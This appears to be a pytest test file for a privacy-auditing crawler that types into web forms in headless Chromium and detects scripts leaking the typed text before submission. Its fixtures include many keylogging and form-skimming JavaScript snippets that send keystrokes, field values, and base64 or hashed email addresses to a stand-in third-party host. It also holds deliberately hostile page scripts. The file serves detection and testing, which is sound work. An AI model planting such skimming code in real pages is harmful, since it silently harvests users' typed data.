"""Typing without submitting: what a real Chromium lets out, and what a real server never got."""

import hashlib
import shutil
import socket
import threading
import time
from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from typing import Any

import pytest
from click.testing import CliRunner
from tests.server import Answer, Local, little

import necgreen
from necgreen.cli import main
from necgreen.collection import bundle
from necgreen.collection.chromium.marks import MAIL, TEXT, hits, keystrokes
from necgreen.model import GapKind, Moment, Need, Page, Visit

HOME = "https://www.forum.example/"
THIRD = "https://tiers.example/"
OK = Answer("", 204, headers=(("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Headers", "*")))
ASIDE = {("tiers.example", path): OK for path in ("/k", "/collect", "/socket", "/other")}
FORM = "<form action=/inscription method=post id=f>{}</form>"
FIELD = "<input name=nom>"
MAILED = "<input name=courriel type=email>"


def html(body: str, script: str = "") -> Answer:
    text = f"<!doctype html><html lang=fr><title>a</title><link rel=icon href=data:,>{body}<script>{script}</script>"
    return Answer(text, type="text/html; charset=utf-8")


def visit(local: Local, **options: Any) -> Visit:
    path = shutil.which("chromium-headless-shell")
    assert path, "chromium-headless-shell is needed by these tests"
    means: dict[str, Any] = {"connect_to": local.connect_to, "ca_bundle": local.ca, "dns": False, "browser": path}
    wanted = {"engine": "browser", "max_pages": 1, "states": (), "probe_forms": True, **options}
    return necgreen.collect(HOME, **means, **wanted)


@contextmanager
def typed(body: str, script: str = "", more: Any = None, **options: Any) -> Iterator[tuple[Page, Local]]:
    """The page typed in, and the server once the visit is over."""
    site = {HOME: html(body, script), f"{HOME}inscription": html("merci"), **ASIDE, **(more or {})}
    with little(site, tls=True) as local:
        yield visit(local, **options).pages[-1], local


def leaks(page: Page) -> set[tuple[str, str, str]]:
    """Form, where, and host and path of each request that carried what we typed."""
    assert page.typed is not None
    urls = [page.entries[int(one.entry.rpartition("/")[2])].url for one in page.typed.leaks]
    return {
        (one.form, one.where, url.partition("://")[2].partition("?")[0])
        for one, url in zip(page.typed.leaks, urls, strict=True)
    }


def names(page: Page) -> list[str]:
    assert page.typed is not None
    return [one.name for one in page.typed.fields]


ON = "const ON = (what, how) => document.addEventListener(what, how, true); const F = () => f.elements[0].value;"
HASH = """const hash = async (name, text) => [...new Uint8Array(await crypto.subtle.digest(name,
  new TextEncoder().encode(text)))].map(one => one.toString(16).padStart(2, '0')).join('');"""


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("ON('keydown', e => { new Image().src = T + 'k?k=' + e.key + '&t=' + Date.now() })", ("keys", "url", "k")),
        ("ON('keyup', e => fetch(T + 'collect', {method: 'POST', body: JSON.stringify({all: [{code: e.keyCode}]})}))",
         ("keys", "body", "collect")),
        ("ON('input', () => { const x = new XMLHttpRequest(); x.open('POST', T + 'collect');"
         " x.setRequestHeader('Content-Type', 'application/json'); x.send(JSON.stringify({v: F()})) })",
         ("plain", "body", "collect")),
        ("ON('change', () => navigator.sendBeacon(T + 'collect', new Blob([JSON.stringify({v: F()})])))",
         ("plain", "body", "collect")),
        ("ON('focusout', () => { const d = new FormData(); d.set('v', F()); d.set('f', new Blob(['x']), 'x.txt');"
         " fetch(T + 'collect', {method: 'POST', body: d, mode: 'no-cors'}) })", ("plain", "body", "collect")),
        ("ON('change', () => fetch(T + 'collect', {headers: {'X-Typed': F()}}))", ("plain", "header", "collect")),
        ("ON('change', () => new EventSource(T + 'collect?q=' + encodeURIComponent(encodeURIComponent('é' + F()))))",
         ("plain", "url", "collect")),
        ("ON('change', () => fetch(T + 'collect?h=' + btoa('{\"a\":\"' + F() + '\"}'), {mode: 'no-cors'}))",
         ("base64", "url", "collect")),
        ("ON('change', () => fetch(T + 'collect', {method: 'POST', mode: 'no-cors', body: btoa('x' + F())}))",
         ("base64", "body", "collect")),
        (HASH + "ON('change', async () => fetch(T + 'collect?h=' + await hash('SHA-256', F()), {mode: 'no-cors'}))",
         ("sha256", "url", "collect")),
        ("ON('change', async () => { const s = new Blob([JSON.stringify({v: F()})]).stream()"
         ".pipeThrough(new CompressionStream('gzip')); fetch(T + 'collect', {method: 'POST', mode: 'no-cors',"
         " body: await new Response(s).arrayBuffer()}) })", ("plain", "body", "collect")),
        ("addEventListener('pagehide', () => navigator.sendBeacon(T + 'collect', F()))", ("plain", "body", "collect")),
        ("const w = new Worker(URL.createObjectURL(new Blob([`onmessage = e => fetch('${T}collect', {method: 'POST',"
         " mode: 'no-cors', body: e.data})`]))); ON('change', () => w.postMessage(F()))", ("plain", "body", "collect")),
        ("let t; ON('input', () => { clearTimeout(t); t = setTimeout(() => { if (F().length < 9) return;"
         " fetch(T + 'collect?q=' + F().slice(0, 8), {mode: 'no-cors'}) }, 5) })", ("plain", "url", "collect")),
    ],
)  # fmt: skip
def test_what_a_script_sends_as_one_types_is_found(script: str, expected: tuple[str, str, str]) -> None:
    with typed(FORM.format(FIELD), f"const T = '{THIRD}'; {ON} {script}") as (page, local):
        form, where, path = expected
        assert leaks(page) == {(form, where, f"tiers.example/{path}")}
        assert page.typed is not None
        assert {one.field for one in page.typed.leaks} == {0}
        assert not [one for one in local.log if one.path.startswith("/inscription")]
    assert (page.id, page.step, Need.TYPED in page.collected) == ("1t", "typed", True)


@pytest.mark.parametrize("name", ["md5", "sha1", "sha256", "sha512"])
def test_a_hash_of_the_address_is_found_whatever_its_writing(name: str) -> None:
    digest = hashlib.new(name, MAIL.encode())
    for written in (digest.hexdigest(), digest.hexdigest().upper(), b64encode(digest.digest()).decode()):
        assert {(hit.form, hit.value) for hit in hits(f"https://t.example/?em={written}")} == {(name, MAIL)}


def test_an_address_hashed_in_a_url_and_written_in_base64_in_a_body() -> None:
    md5 = hashlib.md5(MAIL.encode()).hexdigest()  # the page could compute it: no browser has md5
    script = f"""const T = '{THIRD}'; {ON} {HASH} ON('change', async () => {{ if (F() !== '{MAIL}') return;
      fetch(T + 'collect?h=' + await hash('SHA-256', F()), {{mode: 'no-cors'}});
      fetch(T + 'other?m={md5}', {{mode: 'no-cors'}});
      fetch(T + 'k', {{method: 'POST', mode: 'no-cors', body: 'd=' + btoa(JSON.stringify({{m: F()}}))}}); }})"""
    with typed(FORM.format(MAILED + FIELD), script) as (page, _):
        assert leaks(page) == {
            ("sha256", "url", "tiers.example/collect"), ("md5", "url", "tiers.example/other"),
            ("base64", "body", "tiers.example/k"),
        }  # fmt: skip
        assert page.typed is not None
        assert {(one.field, one.what) for one in page.typed.leaks} == {(0, "email")}
        assert [(one.name, one.kind, one.action) for one in page.typed.fields] == [
            ("courriel", "email", f"{HOME}inscription"), ("nom", "text", f"{HOME}inscription")
        ]  # fmt: skip


@contextmanager
def echo() -> Iterator[int]:
    """A server of WebSockets that shakes hands and listens."""
    listener = socket.create_server(("127.0.0.1", 0))

    def one(link: socket.socket) -> None:
        with link, suppress(OSError):
            link.settimeout(20)
            asked = link.recv(65_536).decode("latin-1")
            key = asked.lower().find("sec-websocket-key: ")
            key_text = asked[key:].partition(": ")[2].partition("\r\n")[0]
            mixed = f"{key_text}258EAFA5-E914-47DA-95CA-C5AB0DC85B11".encode()  # RFC 6455, 1.3
            accept = b64encode(hashlib.sha1(mixed).digest()).decode()
            link.sendall(
                f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode()
            )
            while link.recv(65_536):
                pass

    def accept() -> None:
        with suppress(OSError):
            while True:
                threading.Thread(target=one, args=(listener.accept()[0],), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield listener.getsockname()[1]
    finally:
        listener.close()


@pytest.mark.parametrize("sent", ["F()", "new TextEncoder().encode(F())"])
def test_a_socket_opened_before_is_listened_to(sent: str) -> None:
    script = f"{ON} const s = new WebSocket('ws://sonde.example/flux'); ON('change', () => s.send({sent}))"
    with echo() as port, little({HOME.replace("https", "http"): html(FORM.format(FIELD), script)}) as local:
        path = shutil.which("chromium-headless-shell")
        ways = (f"sonde.example:80:127.0.0.1:{port}", *local.connect_to)
        page = necgreen.collect(
            HOME.replace("https", "http"), connect_to=ways, dns=False, engine="browser", browser=path, max_pages=1,
            states=(), probe_forms=True,
        ).pages[-1]  # fmt: skip
        assert leaks(page) == {("plain", "socket", "sonde.example/flux")}
        (one,) = page.typed.leaks if page.typed else ()
        assert page.entries[int(one.entry.rpartition("/")[2])].after is Moment.LOAD  # opened before, spoke after


@pytest.mark.parametrize(
    ("form", "leave"),
    [
        ("<form id=f action=/inscription method=post>{}</form>", "f.submit()"),
        ("<form id=f action=/inscription>{}</form>", "f.requestSubmit()"),
        ("<form id=f action=/inscription method=post target=_blank>{}</form>", "f.submit()"),
        ("<form id=f action=/inscription target=_blank>{}</form>", "f.submit()"),
        ("<form id=f action=/inscription method=post target=cadre>{}</form><iframe name=cadre></iframe>", "f.submit()"),
        ("<form id=f action=/inscription target=cadre>{}</form><iframe name=cadre></iframe>", "f.submit()"),
        ("<form id=f action=/inscription>{}</form>", "location = '/inscription?v=' + F()"),
        ("<form id=f action=/inscription>{}</form>", "window.open('/inscription?v=' + F())"),
    ],
)
def test_a_form_that_sends_itself_reaches_nobody_and_is_told(form: str, leave: str) -> None:
    script = f"{ON} ON('focusout', () => {{ {leave} }})"
    with typed(form.format(FIELD), script) as (page, local):
        assert [one.path for one in local.log if one.path.startswith("/inscription")] == []
        assert page.typed is not None
        told = leaks(page)
    assert told == {("plain", "body" if "post" in form else "url", "www.forum.example/inscription")}
    assert page.final_url == HOME
    assert {page.entries[int(one.entry.rpartition("/")[2])].error for one in page.typed.leaks} == {"aborted"}


LEFT = {
    "login": "<form><input name=courriel type=email><input type=password name=p></form>",
    "login, first step": "<form action=/connexion><input name=courriel type=email><button>Suivant</button></form>",
    "login by its button": "<form><input name=courriel><button>Se connecter</button></form>",
    "login by its label": "<form><label>Identifiant <input name=a></label></form>",
    "username": "<form><input name=a autocomplete='section-x username'></form>",
    "login without a form": "<input name=a><input type=password>",
    "search": "<form><input name=q></form><form role=search><input name=a></form><input type=search name=b>"
    "<search><input name=c></search><form action=/recherche><input name=d></form>"
    "<input placeholder='Rechercher…' name=e>",
    "payment": "<form><input name=nom><input name=n autocomplete=cc-number></form>"
    "<form><input name=nom><input name=card-number></form><form action=https://pay.stripe.com/x><input name=nom></form>"
    "<form><input name=iban></form><form><input name=nom><label>Numéro de carte bancaire <input name=n></label></form>",
    "code": "<input name=a autocomplete=one-time-code><input name=otp><input name=b maxlength=4>",
    "not for text": "<input name=a type=tel><input name=b type=number><input name=c type=date><input type=file name=d>"
    "<input type=url name=e><input name=f inputmode=numeric>",
    "not for people": "<input name=a disabled><input name=b readonly><input name=c type=hidden><input name=d hidden>"
    "<fieldset disabled><input name=e></fieldset><div style='position:absolute;left:-9999px'><input name=f></div>"
    "<div inert><input name=g></div><input name=h style='opacity:0'><div aria-hidden=true><input name=i></div>",
    "a form that hides what it is": "<form action=/login><input name=parentElement><input name=getAttribute></form>",
}


def test_what_is_not_ours_to_fill_is_not_touched() -> None:
    """One visit: a page for each kind, whose own scripts tell every event of its fields."""
    tell = "for (const what of ['focusin', 'keydown', 'input', 'change']) document.addEventListener(what, e => {" \
        f"navigator.sendBeacon('{THIRD}other?' + what + '=' + (e.target.name || e.target.type)) }}, true)"
    links = "".join(f"<a href=/p{number}>{number}</a>" for number in range(len(LEFT)))
    pages = {f"{HOME}p{number}": html(body, tell) for number, body in enumerate(LEFT.values())}
    site: dict[Any, Any] = {HOME: html(links + FIELD, tell), **pages, **ASIDE}
    with little(site, tls=True) as local:
        seen = visit(local, max_pages=len(site))
        told = {one.path for one in local.log if one.path.startswith("/other")}
    assert told == {"/other?focusin=nom", "/other?keydown=nom", "/other?input=nom", "/other?change=nom"}
    again = {page.url.rpartition("/")[2]: page for page in seen.pages if page.step == "typed"}
    assert len(again) > 8  # the pages that show a field of some kind were loaded once more
    assert names(again.pop("")) == ["nom"]
    assert {key: names(page) for key, page in again.items() if names(page)} == {}


def test_a_field_beside_a_login_is_typed_in() -> None:
    body = f"{LEFT['login']}<form id=f>{FIELD}</form><form><input name=s></form>"
    with typed(body, f"{ON} ON('change', () => fetch('/inscription?v=' + F()))") as (page, _):
        assert names(page) == ["nom"]
        assert leaks(page) == {("plain", "url", "www.forum.example/inscription")}  # the site itself is told too


def test_fields_of_shadow_trees_and_of_frames_of_the_site() -> None:
    script = """for (const mode of ['open', 'closed']) { const host = document.createElement('div');
      document.body.append(host); host.attachShadow({mode}).innerHTML = `<input name=${mode}>`; }"""
    body = f"<iframe src=/cadre></iframe><iframe src={THIRD}cadre></iframe>"
    body += "<iframe srcdoc='<input name=dedans>'></iframe>"
    body += "<iframe sandbox=allow-scripts srcdoc='<input name=clos>'></iframe>" + FIELD
    more = {f"{HOME}cadre": html("<input name=cadre>"), ("tiers.example", "/cadre"): html("<input name=tiers>")}
    with typed(body, script, more) as (page, _):
        assert sorted(names(page)) == ["cadre", "closed", "dedans", "nom", "open"]


def test_a_filled_field_is_typed_over() -> None:
    script = f"{ON} ON('change', () => fetch('/inscription?v=' + F()))"
    with typed(FORM.format("<input name=nom value=Dupont>"), script) as (page, local):
        assert leaks(page) == {("plain", "url", "www.forum.example/inscription")}
        assert [one.path for one in local.log if "?v=" in one.path] == [f"/inscription?v={TEXT}"]


HOSTILE = {
    "throws": "ON('keydown', () => { throw 1 })",
    "removes": "ON('keydown', e => e.target.remove())",
    "moves the focus": "const p = document.createElement('input'); p.type = 'password'; document.body.append(p);"
    "ON('keyup', () => p.focus()); p.oninput = () => fetch('/secret')",
    "asks": "ON('input', () => alert(1)); onbeforeunload = () => 'x'",
    "endless": "ON('input', () => setInterval(() => fetch('/suggest'), 20))",
    "hangs": "ON('input', () => { for (;;); })",
    "many": "for (let i = 0; i < 60; i++) f.append(Object.assign(document.createElement('input'), {name: 'n' + i}))",
    "breaks its tools": "Element.prototype.getAttribute = Document.prototype.createTreeWalker = null;"
    "HTMLElement.prototype.focus = () => { throw 1 }; JSON.stringify = null; Object.defineProperty = null",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_page_costs_bounded_time(name: str) -> None:
    began = time.monotonic()
    with typed(FORM.format(FIELD), f"{ON} {HOSTILE[name]}", page_time=6.0, max_resources=600) as (page, local):
        took = time.monotonic() - began
        assert "/secret" not in {one.path for one in local.log}
    assert took < 75
    assert page.typed is not None
    assert "nom" in names(page)
    kinds = {gap.kind for gap in page.gaps}
    assert kinds & {GapKind.TIME_OUT} == ({GapKind.TIME_OUT} if name == "hangs" else set())
    if name == "many":
        assert len(page.typed.fields) == 20
        assert GapKind.CAP in kinds


def test_our_name_in_the_user_agent_is_no_evidence() -> None:
    script = f"""{ON} ON('input', () => {{ const ua = navigator.userAgent;
      fetch('{THIRD}collect?' + new URLSearchParams({{ua, u: location.href}}), {{mode: 'no-cors'}});
      navigator.sendBeacon('{THIRD}other', JSON.stringify({{ua}}));
      navigator.sendBeacon('{THIRD}k', btoa(JSON.stringify({{ua}}))); }})"""
    with typed(FORM.format(FIELD), script) as (page, local):
        assert leaks(page) == set()
        assert any("necgreen" in one.path for one in local.log)
        assert not page.gaps


def test_a_site_named_like_us_is_not_accused_of_saying_its_name() -> None:
    script = f"{ON} new Image().src = '/v?t=necgreen'; ON('change', () => new Image().src = '/v?again&t=necgreen')"
    with typed(FORM.format(FIELD), script) as (page, _):
        assert leaks(page) == set()


def test_too_short_a_beginning_and_letters_out_of_order_are_no_evidence() -> None:
    assert hits("https://t.example/?q=necgr") == set()
    urls = [f"https://t.example/k?k={letter}" for letter in "tset-neergcen"]
    assert keystrokes([(at, url, ()) for at, url in enumerate(urls)]) == []
    spelled = [(at, f"https://t.example/k?k={letter}", ()) for at, letter in enumerate("necgre")]
    assert {hit.value for _, hit in keystrokes(spelled)} == {"necgre"}


def test_where_there_is_nowhere_to_type_it_is_said_without_a_load() -> None:
    with typed("<p>rien") as (page, local):
        assert (page.id, page.typed is not None and page.typed.fields, page.entries) == ("1t", (), ())
        assert len([one for one in local.log if one.path == "/"]) == 2  # the tour, the browser


def test_without_the_option_nothing_is_typed() -> None:
    script = f"{ON} ON('keydown', () => fetch('/touche'))"
    with typed(FORM.format(FIELD), script, probe_forms=False) as (page, local):
        assert page.typed is None
        assert "/touche" not in {one.path for one in local.log}


def test_nothing_of_it_is_stored_but_our_own_words() -> None:
    body = "JSON.stringify({v: F(), cle: 'PLANTED'})"
    script = f"{ON} ON('change', () => navigator.sendBeacon('{THIRD}collect', {body}))"
    site: dict[Any, Any] = {HOME: html(FORM.format(MAILED), script), **ASIDE}
    with little(site, tls=True) as local:
        seen = visit(local)
    files = bundle.pack(seen)
    stored = b"".join(body for name, body in files.items() if not name.startswith("documents/"))
    assert b"PLANTED" not in stored
    assert MAIL.encode() not in stored
    assert bundle.unpack(files) == seen  # and the trace comes back


def test_the_static_engine_types_nothing_and_says_so() -> None:
    done = CliRunner().invoke(main, ["collect", HOME, "--engine", "static", "--probe-forms", "-o", "jamais.zip"])
    assert (done.exit_code, done.stderr.count("\n")) == (2, 1)
    assert "--probe-forms needs the browser engine" in done.stderr
